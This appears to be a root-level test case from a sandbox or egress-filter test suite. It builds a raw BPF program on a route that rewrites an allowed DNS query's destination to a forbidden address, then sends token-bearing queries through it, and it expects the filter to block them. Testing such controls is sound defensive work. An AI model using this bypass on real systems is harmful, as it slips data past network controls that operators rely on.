#!/usr/bin/python3
# id: b27b_lwt_rewrite
# title: a route with a BPF program of root's own, which rewrites the destination of an allowed query
# needs: root
# expect: block
# why: it runs where the packet gets its link address, behind the last hook of a cgroup
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
from kernelbpf import *
import subprocess
LWT_XMIT = 12
def f():
    word = lambda a: signed(int.from_bytes(socket.inet_aton(a), 'little')); old, new = word(ALLOW), word(FORB)
    call = lambda n: i(0x85, 0, 0, 0, n); mov = lambda r, n: i(0xb4, r, 0, 0, n); packet = i(0xbf, 1, 6, 0, 0)
    # the sums of both headers, then the address; return BPF_OK
    p = load(LWT_XMIT, [i(0xbf, 6, 1, 0, 0), packet, mov(2, 10), mov(3, old), mov(4, new), mov(5, 4), call(10),
        packet, mov(2, 26), mov(3, old), mov(4, new), mov(5, 0x14), call(11), i(0x62, 10, 0, -4, new),
        packet, mov(2, 16), i(0xbf, 3, 10, 0, 0), i(0x07, 3, 0, 0, -4), mov(4, 4), mov(5, 0), call(9), mov(0, 0), i(0x95, 0, 0, 0, 0)])
    pin = f'/sys/fs/bpf/bp{os.getpid()}'; bpf(6, struct.pack('<QII', at(pin.encode() + b'\0'), p, 0))
    try:
        subprocess.run(f'ip route add {ALLOW}/32 encap bpf xmit pinned {pin} dev v0 src {myip()}', shell=True, check=True)
        for _ in range(3): socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.3)
    finally: os.unlink(pin); subprocess.run(f'ip route del {ALLOW}/32', shell=True)
attempt(f, chan=('dns', 'pkt'))
